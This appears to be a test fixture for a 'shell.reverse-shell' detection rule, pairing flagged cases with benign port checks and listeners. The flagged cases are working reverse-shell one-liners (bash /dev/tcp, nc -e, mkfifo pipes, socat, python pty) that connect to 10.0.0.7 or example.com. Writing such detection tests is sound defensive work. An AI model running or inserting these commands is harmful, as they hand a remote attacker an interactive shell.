# ruleid: shell.reverse-shell
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
# --- case
# ruleid: shell.reverse-shell
nc -e /bin/sh example.com 4444
# --- case
# ruleid: shell.reverse-shell
sh -i >& /dev/tcp/example.com/9001 0>&1
# --- case
# ok: shell.reverse-shell
nc -z localhost 5432
# --- case
# ok: shell.reverse-shell
bash -i
# --- case
# ruleid: shell.reverse-shell
bash -i >& /dev/tcp/10.0.0.7/4444 0>&1
# --- case
# ruleid: shell.reverse-shell
nc -e /bin/sh 10.0.0.7 4444
# --- case
rm -f /tmp/f; mkfifo /tmp/f
# ruleid: shell.reverse-shell
cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.7 4444 > /tmp/f
# --- case
# ruleid: shell.reverse-shell
socat tcp-connect:10.0.0.7:4444 exec:/bin/sh,pty,stderr
# --- case
# ruleid: shell.reverse-shell
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.7",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
# --- case
# ruleid: shell.reverse-shell
nc 10.0.0.7 4444 | bash
# --- case
exec 5<>/dev/tcp/10.0.0.7/4444
cat <&5 | while read -r line; do
# ruleid: shell.reverse-shell
$line 2>&5 >&5; done
# --- case
exec 9<>/dev/tcp/10.0.0.7/4444
# ruleid: shell.reverse-shell
sh <&9 >&9 2>&9
# --- case
# ok: shell.reverse-shell
nc -z localhost 5432
# --- case
# ok: shell.reverse-shell
(echo > /dev/tcp/localhost/5432) 2> /dev/null
# --- case
exec 3<>/dev/tcp/localhost/80
# ok: shell.reverse-shell
cat <&3
# --- case
# ok: shell.reverse-shell
socat TCP-LISTEN:80,fork TCP:app:8080
# --- case
# ok: shell.reverse-shell
python3 -c "import socket; print(socket.gethostname())"
